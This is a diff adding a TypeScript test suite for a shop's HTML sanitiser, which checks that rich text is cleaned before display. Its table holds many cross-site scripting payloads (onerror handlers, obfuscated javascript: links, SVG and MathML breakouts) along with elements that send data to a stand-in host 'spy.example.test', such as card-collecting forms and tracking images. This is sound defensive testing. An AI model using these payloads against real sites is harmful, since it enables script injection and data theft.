@@ -1,0 +1,382 @@
+import {expect} from '@open-wc/testing';
+import {plainText, richText} from '../../../src/ui/content/rich-text.js';
+import {Shop} from '../../../src/shop/shop.js';
+import {atTheEnd} from '../../support/endings.js';
+import {itExceptIn} from '../../support/engines.js';
+import {answer, uniqueAddress} from '../../support/server.js';
+import {waitUntil} from '../../support/wait-until.js';
+
+const own = 'parseHTML' in Document;
+
+/** Takes the browser's own sanitiser away until the test is over. */
+function withoutOwn(): void {
+  const parseHTML = Object.getOwnPropertyDescriptor(Document, 'parseHTML');
+  if (!parseHTML) return;
+  Reflect.deleteProperty(Document, 'parseHTML');
+  atTheEnd(() => Object.defineProperty(Document, 'parseHTML', parseHTML));
+}
+
+/** What is shown of a piece of HTML; empty for nothing. */
+async function shown(html: string, shop: Shop): Promise<string> {
+  return (await richText(html, shop))?.innerHTML ?? '';
+}
+
+const link = 'rel="noopener noreferrer nofollow" target="_blank"';
+const ours = (path: string, alt = '') =>
+  `<img src="https://shop.example.test${path}" alt="${alt}" loading="lazy" referrerpolicy="no-referrer">`;
+const run = 'window.harmed = true';
+const WITHOUT_SCRIPTS = 'what shows when scripts do not run';
+
+/** What comes, and what is shown of it. Anything else would be a hole, or a loss. */
+const table: readonly (readonly [what: string, html: string, result: string])[] = [
+  // What shops write
+  ['text', 'Fly everywhere', 'Fly everywhere'],
+  ['a paragraph', '<p>Fly</p>', '<p>Fly</p>'],
+  [
+    'a list',
+    '<ul><li>/fly</li><li>/hat</li></ul>',
+    '<ul><li>/fly</li><li>/hat</li></ul>',
+  ],
+  ['an editor’s classes', '<p class="ql-align-center">Fly</p>', '<p>Fly</p>'],
+  [
+    'emphasis',
+    '<b>a</b><strong>b</strong><em>c</em><u>d</u>',
+    '<b>a</b><strong>b</strong><em>c</em><u>d</u>',
+  ],
+  ['headings', '<h2>Perks</h2>', '<h2>Perks</h2>'],
+  [
+    'a table',
+    '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
+    '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
+  ],
+  ['entities', '1 &lt; 2 &amp; 3', '1 &lt; 2 &amp; 3'],
+  [
+    'another language',
+    '<p lang="de" dir="ltr">Fliegen</p>',
+    '<p lang="de" dir="ltr">Fliegen</p>',
+  ],
+  // Links
+  [
+    'an https link',
+    '<a href="https://wiki.example.test/fly">Wiki</a>',
+    `<a href="https://wiki.example.test/fly" ${link}>Wiki</a>`,
+  ],
+  [
+    'a link within the shop',
+    '<a href="/pages/rules">Rules</a>',
+    `<a href="https://shop.example.test/pages/rules" ${link}>Rules</a>`,
+  ],
+  [
+    'a mail address',
+    '<a href="mailto:help@example.test">Help</a>',
+    `<a href="mailto:help@example.test" ${link}>Help</a>`,
+  ],
+  [
+    'a link with its own target and rel',
+    '<a href="https://a.example.test/" target="_top" rel="opener">A</a>',
+    `<a href="https://a.example.test/" ${link}>A</a>`,
+  ],
+  ['a link that leads nowhere', '<a>Here</a>', '<a>Here</a>'],
+  ['a link with an empty address', '<a href="">Here</a>', '<a>Here</a>'],
+  ['a link to a script', `<a href="javascript:${run}">Here</a>`, '<a>Here</a>'],
+  [
+    'the same with a line break in it',
+    `<a href="java\nscript:${run}">Here</a>`,
+    '<a>Here</a>',
+  ],
+  [
+    'the same with entities',
+    `<a href="&#106;avascript&colon;${run}">Here</a>`,
+    '<a>Here</a>',
+  ],
+  [
+    'the same with a control character before it',
+    `<a href="\u0001javascript:${run}">Here</a>`,
+    '<a>Here</a>',
+  ],
+  ['the same in capitals', `<a href="JaVaScRiPt:${run}">Here</a>`, '<a>Here</a>'],
+  [
+    'a link to data',
+    '<a href="data:text/html,<script>1</script>">Here</a>',
+    '<a>Here</a>',
+  ],
+  [
+    'a link to a blob',
+    '<a href="blob:https://shop.example.test/1">Here</a>',
+    '<a>Here</a>',
+  ],
+  [
+    'a link that is not encrypted',
+    '<a href="http://a.example.test/">Here</a>',
+    '<a>Here</a>',
+  ],
+  ['a link that is no address', '<a href="https://[">Here</a>', '<a>Here</a>'],
+  [
+    'a link that tells where it was followed',
+    '<a href="https://a.example.test/" ping="https://spy.example.test/" download>A</a>',
+    `<a href="https://a.example.test/" ${link}>A</a>`,
+  ],
+  // Pictures
+  [
+    'a picture of the shop',
+    '<img src="/img/a.png" alt="A key">',
+    ours('/img/a.png', 'A key'),
+  ],
+  ['a picture without words', '<img src="/img/a.png">', ours('/img/a.png')],
+  [
+    'a picture of a host that is allowed',
+    '<img src="https://cdn.example.test/a.png" alt="">',
+    ours('').replace('https://shop.example.test', 'https://cdn.example.test/a.png'),
+  ],
+  ['a picture from anywhere else', 'A<img src="https://spy.example.test/a.png">', 'A'],
+  ['the same without a scheme', 'A<img src="//spy.example.test/a.png">', 'A'],
+  ['a picture in the address', 'A<img src="data:image/png;base64,iVBORw0KGgo=">', 'A'],
+  [
+    'more pictures for other screens',
+    'A<img src="/img/a.png" alt="" srcset="https://spy.example.test/b.png 2x" sizes="1px">',
+    `A${ours('/img/a.png')}`,
+  ],
+  ['a picture that fails', `A<img src=x onerror="${run}">`, `A${ours('/x')}`],
+  [
+    'pictures with sources',
+    'A<picture><source srcset="https://spy.example.test/b.png"><img src="/img/a.png"></picture>',
+    'A',
+  ],
+  [
+    'an input that is a picture',
+    'A<input type="image" src="https://spy.example.test/a.png">',
+    'A',
+  ],
+  // Scripts
+  ['a script', `A<script>${run}</script>B`, 'AB'],
+  [
+    'a script from elsewhere',
+    'A<script src="https://spy.example.test/a.js"></script>',
+    'A',
+  ],
+  ['a script that is not closed', `A<script>${run}`, 'A'],
+  ['a script within a script', `A<scr<script>ipt>${run}</script>`, 'A'],
+  [
+    'handlers',
+    `<p onclick="${run}" onmouseover="${run}" ontoggle="${run}">A</p>`,
+    '<p>A</p>',
+  ],
+  [
+    'a handler that runs by itself',
+    `A<details open ontoggle="${run}">B</details>`,
+    'A',
+  ],
+  ['a body with a handler', `<body onload="${run}">A</body>`, 'A'],
+  [
+    'a drawing with a script',
+    `A<svg onload="${run}"><script>${run}</script></svg>`,
+    'A',
+  ],
+  [
+    'a drawing with a link',
+    `A<svg><a xlink:href="javascript:${run}"><text>B</text></a></svg>`,
+    'A',
+  ],
+  [
+    'a drawing that changes itself',
+    `A<svg><animate onbegin="${run}" attributeName="x" dur="1s"></svg>`,
+    'A',
+  ],
+  [
+    'a drawing that breaks out',
+    `A<svg><style><img src=x onerror="${run}"></style></svg>`,
+    `A${ours('/x')}`,
+  ],
+  [
+    'a formula that breaks out',
+    `A<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
+    'A',
+  ],
+  ['a formula with a link', `A<math href="javascript:${run}">B</math>`, 'A'],
+  ['a template', `A<template><img src=x onerror="${run}"></template>`, 'A'],
+  ['a comment', `A<!-- <img src=x onerror="${run}"> -->B`, 'AB'],
+  [
+    'a comment that ends early',
+    `A<!--><img src=x onerror="${run}">-->B`,
+    `A${ours('/x')}--&gt;B`,
+  ],
+  [
+    'addresses where they mean nothing',
+    '<p href="/x" src="/y">A</p><img src="/x" href="/y" alt="">',
+    `<p>A</p>${ours('/x')}`,
+  ],
+  [
+    WITHOUT_SCRIPTS,
+    `A<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
+    'A',
+  ],
+  [
+    'a title that breaks out',
+    `<p title="&lt;img src=x onerror=${run}&gt;">A</p>`,
+    `<p title="&lt;img src=x onerror=${run}&gt;">A</p>`,
+  ],
+  // Frames, forms, styles, names
+  ['a frame', 'A<iframe src="https://spy.example.test/"></iframe>', 'A'],
+  [
+    'a frame with its own page',
+    `A<iframe srcdoc="<script>parent.harmed = true</script>"></iframe>`,
+    'A',
+  ],
+  [
+    'an object',
+    'A<object data="https://spy.example.test/"></object><embed src="https://spy.example.test/">',
+    'A',
+  ],
+  [
+    'a form',
+    'A<form action="https://spy.example.test/"><input name="card"><button>Pay</button></form>',
+    'A',
+  ],
+  [
+    'a field outside of a form',
+    'A<input autofocus onfocus="1"><textarea>B</textarea><select><option>C</select>',
+    'A',
+  ],
+  ['a button', 'A<button formaction="https://spy.example.test/">B</button>', 'A'],
+  [
+    'a style sheet',
+    'A<style>@import "https://spy.example.test/a.css"; p {display: none}</style><link rel="stylesheet" href="https://spy.example.test/a.css">',
+    'A',
+  ],
+  [
+    'a style',
+    '<p style="position:fixed;inset:0;background:url(https://spy.example.test/)">A</p>',
+    '<p>A</p>',
+  ],
+  [
+    'an id that takes over a name of the page',
+    '<p id="shop" name="shop">A</p><a id="config" name="config">B</a>',
+    '<p>A</p><a>B</a>',
+  ],
+  [
+    'an id that takes over the page’s own',
+    '<img id="currentScript" name="body" src="/img/a.png" alt="">',
+    ours('/img/a.png'),
+  ],
+  ['a base', '<base href="https://spy.example.test/">A', 'A'],
+  [
+    'an order to leave',
+    'A<meta http-equiv="refresh" content="0;url=https://spy.example.test/">',
+    'A',
+  ],
+  [
+    'a video',
+    'A<video src="https://spy.example.test/a.mp4" poster="https://spy.example.test/a.png" onerror="1"></video><audio src=x></audio>',
+    'A',
+  ],
+  [
+    'an element of ours',
+    'A<store-provider base-url="https://spy.example.test"><p>B</p></store-provider>',
+    'A',
+  ],
+  ['a slot, and a part of ours', '<p slot="footer" part="price">A</p>', '<p>A</p>'],
+  [
+    'data and roles',
+    '<p data-id="7" aria-label="B" role="alert" tabindex="0" contenteditable hidden>A</p>',
+    '<p>A</p>',
+  ],
+  ['a popover and what opens it', '<p popover>A</p>', '<p>A</p>'],
+  [
+    'a shadow root',
+    `A<div><template shadowrootmode="open"><img src=x onerror="${run}"></template></div>`,
+    'A<div></div>',
+  ],
+];
+
+describe('HTML of the service', () => {
+  const ways = own
+    ? ['the browser’s own sanitiser', 'a sanitiser of ours']
+    : ['a sanitiser of ours'];
+
+  for (const way of ways) {
+    describe(`made safe by ${way}`, () => {
+      const shop = new Shop({baseUrl: 'https://shop.example.test'});
+      shop.allowImages(['cdn.example.test']);
+
+      beforeEach(() => {
+        if (way === 'a sanitiser of ours') withoutOwn();
+        answer('GET https://shop.example.test/*', '');
+        answer('GET https://cdn.example.test/*', '');
+      });
+
+      for (const [what, html, result] of table) {
+        const test =
+          what === WITHOUT_SCRIPTS && way !== 'a sanitiser of ours'
+            ? itExceptIn('Firefox', 'it shows this, made safe')
+            : it;
+        test(`is shown as it should: ${what}`, async () => {
+          expect(await shown(html, shop)).to.equal(result);
+        });
+      }
+
+      it('asks nobody for anything and runs nothing, not even once it is in the page', async () => {
+        const spied = answer('GET https://spy.example.test/*', '');
+        const page = document.createElement('div');
+        document.body.append(page);
+        atTheEnd(() => page.remove());
+        for (const [, html] of table) page.append((await richText(html, shop)) ?? '');
+        page
+          .querySelectorAll('a')
+          .forEach((one) => one.dispatchEvent(new Event('click')));
+        // Some browsers leave those that nobody sees for later.
+        for (const image of page.querySelectorAll('img')) image.loading = 'eager';
+        await waitUntil(
+          () => [...page.querySelectorAll('img')].every(({complete}) => complete),
+          'Its pictures should have come, or not.',
+        );
+        expect(spied.map(({url}) => url)).to.deep.equal([]);
+        expect(window).not.to.have.property('harmed');
+      });
+
+      for (const nothing of [
+        '',
+        '  \n',
+        '<p></p>',
+        '<p><br></p>',
+        '<script>1</script>',
+        '<img src="https://spy.example.test/a.png">',
+      ]) {
+        it(`is not shown where there is nothing to show: ${JSON.stringify(nothing)}`, async () => {
+          expect(await richText(nothing, shop)).to.not.exist;
+        });
+      }
+
+      it('never makes a custom element of what is shown', async () => {
+        expect(await shown('A<p is="store-provider">B</p>', shop)).not.to.contain(
+          'store',
+        );
+      });
+
+      it('is shown where it is a picture alone', async () => {
+        expect(await shown('<p><img src="/img/a.png" alt="Map"></p>', shop)).to.contain(
+          'alt="Map"',
+        );
+      });
+
+      it('is shown from its beginning, however long it is', async () => {
+        const begun = performance.now();
+        const html = await shown(`<p>Begin</p>${'<b>A</b> '.repeat(120_000)}`, shop);
+        expect(html.slice(0, 32)).to.equal('<p>Begin</p><b>A</b> <b>A</b> <b');
+        expect(performance.now() - begun).to.be.lessThan(10_000);
+      });
+
+      it('has words alone where there is room for no more', async () => {
+        expect(
+          await plainText('<b>un</b>limited &amp; more<script>1</script>'),
+        ).to.equal('unlimited & more');
+        expect(await plainText(' 3 ')).to.equal('3');
+      });
+    });
+  }
+
+  it('has links below the address of the shop it came from', async () => {
+    const shop = new Shop({baseUrl: uniqueAddress()});
+    const html = await shown('<a href="pages/rules">Rules</a>', shop);
+    expect(html).to.contain(`href="${shop.baseUrl}/pages/rules"`);
+  });
+});
